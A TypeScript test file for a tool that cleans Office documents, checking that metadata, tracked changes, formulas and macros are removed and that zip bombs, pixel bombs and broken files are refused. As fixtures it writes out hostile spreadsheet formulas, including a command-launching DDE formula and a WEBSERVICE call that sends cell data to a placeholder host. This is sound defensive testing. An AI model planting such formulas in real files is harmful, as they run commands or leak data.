import { strToU8 } from "fflate";
import { describe, expect, test } from "vitest";
import { accepted, clean, expectNoTrace, refused } from "./cleaning.ts";
import * as files from "./files.ts";

describe("Office files", () => {
  const dangling = (parts: Record<string, string>) =>
    Object.entries(parts)
      .filter(([name]) => name.endsWith(".rels"))
      .flatMap(([name, xml]) => {
        const owner = name.replace(/_rels\/([^/]*)\.rels$/, "$1");
        const ids = new Set([...xml.matchAll(/ Id="([^"]+)"/g)].map((match) => match[1]));
        return [...(parts[owner] ?? "").matchAll(/ r:\w+="([^"]+)"/g)].filter(([, id]) => !ids.has(id));
      });

  test("a Word file keeps its text and pictures, and nothing of its makers", async () => {
    const cleaned = await accepted(await files.docx(), "docx");
    const parts = files.insideOfPackage(cleaned);
    expectNoTrace(JSON.stringify(parts));
    expectNoTrace(cleaned.toString("latin1"));
    expect(parts["word/document.xml"]).toContain(files.SAID);
    expect(parts["word/document.xml"]).not.toMatch(/<w:ins[ >]|comment[RA]/);
    expect(JSON.stringify(parts)).not.toMatch(/rsid|00AB12CD|2026-01-02T03/);
    expect(Object.keys(parts).sort()).toEqual([
      "[Content_Types].xml",
      "_rels/.rels",
      "word/_rels/document.xml.rels",
      "word/_rels/settings.xml.rels",
      "word/document.xml",
      "word/media/image1.jpeg",
      "word/settings.xml",
    ]);
    expect(parts["[Content_Types].xml"]).not.toMatch(/people|docProps/);
    expect(parts["word/_rels/document.xml.rels"]).toContain("https://www.example.org/");
    expect(dangling(parts)).toEqual([]);
  });

  test("a Word file keeps what was added to it, and nothing of what was deleted, moved away or remarked", async () => {
    const tracked = `<w:p><w:pPr><w:rPr><w:ins w:id="3" w:author="x"/></w:rPr><w:pPrChange w:id="9"><w:pPr/></w:pPrChange></w:pPr>
      <w:ins w:id="4" w:author="x"><w:r><w:t>ADDED</w:t></w:r></w:ins><w:del w:id="5" w:author="x"><w:r><w:delText>DELETED</w:delText></w:r></w:del>
      <w:moveFrom w:id="6"><w:r><w:t>MOVED-AWAY</w:t></w:r></w:moveFrom><w:moveTo w:id="7"><w:r><w:t>MOVED-HERE</w:t></w:r></w:moveTo>
      <w:commentRangeStart w:id="0"/><w:r><w:t>REMARKED</w:t></w:r><w:commentRangeEnd w:id="0"/></w:p>`;
    const document = Buffer.from((await files.docxParts())["word/document.xml"] ?? []).toString();
    const bytes = await files.docx({
      "word/document.xml": strToU8(document.replace("<w:body>", `<w:body>${tracked}`)),
    });
    const parts = files.insideOfPackage(await accepted(bytes, "docx"));
    for (const kept of ["ADDED", "MOVED-HERE", "REMARKED", files.SAID])
      expect(parts["word/document.xml"]).toContain(kept);
    expect(parts["word/document.xml"]).not.toMatch(/DELETED|MOVED-AWAY|<w:ins[ >]|<w:move|PrChange|comment/);
    expect(Object.keys(parts).join()).not.toContain("comment");
  });

  test("an Excel file keeps the values of its cells and none of its formulas", async () => {
    const cells = `<row r="2"><c r="A2"><f>cmd|'/C calc'!A0</f><v>1</v></c><c r="B2"><f>WEBSERVICE("http://x/"&amp;A1)</f><v>2</v></c>
      <c r="C2"><f t="shared" ref="C2:C3" si="0">SUM(A2:B2)</f><v>3</v></c><c r="D2"><f t="shared" si="0"/><v>4</v></c>
      <c r="E2" t="str"><f>HYPERLINK("file://x")</f><v>five</v></c></row>`;
    const sheet = Buffer.from((await files.xlsxParts())["xl/worksheets/sheet1.xml"] ?? []).toString();
    const bytes = await files.xlsx({
      "xl/worksheets/sheet1.xml": strToU8(sheet.replace("</sheetData>", `${cells}</sheetData>`)),
    });
    const cleaned = files.insideOfPackage(await accepted(bytes, "xlsx"))["xl/worksheets/sheet1.xml"] ?? "";
    expect([...cleaned.matchAll(/<v>(\w+)<\/v>/g)].map(([, value]) => value)).toEqual([
      "42",
      "1",
      "2",
      "3",
      "4",
      "five",
    ]);
    expect(cleaned).not.toMatch(/<f[\s>/]|WEBSERVICE|HYPERLINK|cmd/);
  });

  test("an Excel file keeps its cells, and nothing of its makers", async () => {
    const parts = files.insideOfPackage(await accepted(await files.xlsx(), "xlsx"));
    expectNoTrace(JSON.stringify(parts));
    expect(parts["xl/worksheets/sheet1.xml"]).toContain(files.SAID);
    expect(parts["xl/worksheets/sheet1.xml"]).toContain('<c r="B1"><v>42</v></c>');
    expect(Object.keys(parts).join()).not.toMatch(/docProps|externalLink|printer/);
    expect(dangling(parts)).toEqual([]);
  });

  test("with macros is refused, whatever it calls itself", async () => {
    await refused(await files.docx({ "word/vbaProject.bin": strToU8("macro") }), "file_macro");
    const types = Buffer.from((await files.docxParts())["[Content_Types].xml"] ?? []).toString();
    const macroType = types.replace(
      /application\/vnd[^"]*document\.main\+xml/,
      "application/vnd.ms-word.document.macroEnabled.main+xml",
    );
    await refused(await files.docx({ "[Content_Types].xml": strToU8(macroType) }), "file_macro");
  });

  test("that unpacks without end is refused before it is unpacked", async () => {
    await refused(await files.zipBomb(), "file_bomb");
    const many = Object.fromEntries(
      Array.from({ length: 2100 }, (_, index) => [`word/x${index}.xml`, strToU8("<x/>")]),
    );
    await refused(await files.docx(many), "file_bomb");
  });

  test("with a picture bomb inside is refused", async () => {
    await refused(await files.docx({ "word/media/image2.png": await files.pixelBomb() }), "file_bomb");
  });

  test("that is cut off is refused", async () => {
    const whole = await files.docx();
    const { result } = await clean(whole.subarray(0, whole.length - 500));
    expect(result).toEqual({ problem: "file_broken" });
  });

  test("with entities is refused", () =>
    files
      .docx({ "word/footer1.xml": strToU8('<!DOCTYPE x [<!ENTITY a "b">]><x/>') })
      .then((bytes) => refused(bytes, "file_broken")));
});
